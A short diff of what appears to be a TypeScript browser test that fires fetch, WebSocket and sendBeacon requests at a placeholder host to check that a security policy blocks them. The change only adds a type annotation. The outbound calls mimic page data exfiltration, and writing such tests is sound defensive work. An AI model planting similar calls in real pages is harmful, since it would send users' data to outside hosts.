@@ -11,7 +11,7 @@ async function tryToSend(): Promise<string[]> {
     forbidden.add(effectiveDirective),
   );
   const elsewhere = "elsewhere.example/?cells=1";
-  const tries = [
+  const tries: readonly (() => unknown)[] = [
     () => fetch(`https://${elsewhere}`),
     () => new WebSocket(`wss://${elsewhere}`),
     () => navigator.sendBeacon(`https://${elsewhere}`, "x"),
